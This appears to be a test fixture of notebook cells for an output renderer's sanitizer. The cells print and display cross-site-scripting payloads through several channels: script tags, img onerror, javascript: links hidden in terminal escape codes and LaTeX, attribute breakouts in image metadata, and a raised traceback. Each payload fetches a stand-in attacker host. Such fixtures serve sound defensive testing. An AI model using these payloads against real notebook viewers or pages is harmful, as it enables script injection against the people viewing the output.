# ---
# note: printed text and tracebacks that close the page's own tags; images that are none
# kind: scripts
# known_from: escape codes that become tags; base64 that is not looked at
# ---
# %% judged +top
from IPython.display import display

run = "fetch('https://canary-of-an-attacker.example')"
print(f"</pre></div><script>{run}</script>")
print(f"\x1b[31m<img src=x onerror={run}>\x1b[0m\x1b]8;;javascript:{run}\x07x\x1b]8;;\x07")
display({"image/png": f'x" onerror="{run}', "image/jpeg": f"'><script>{run}</script>"}, raw=True)
display({"text/latex": f"$\\href{{javascript:{run}}}{{x}}$ <script>{run}</script>"}, raw=True)
display({"text/plain": f"<script>{run}</script>"}, metadata={"text/plain": {"a": run}}, raw=True)
display({"image/png": "aGk="}, metadata={"image/png": {"width": f'1" onload="{run}'}}, raw=True)


# %% judged +end
raise ValueError(f"</pre><script>{run}</script>")
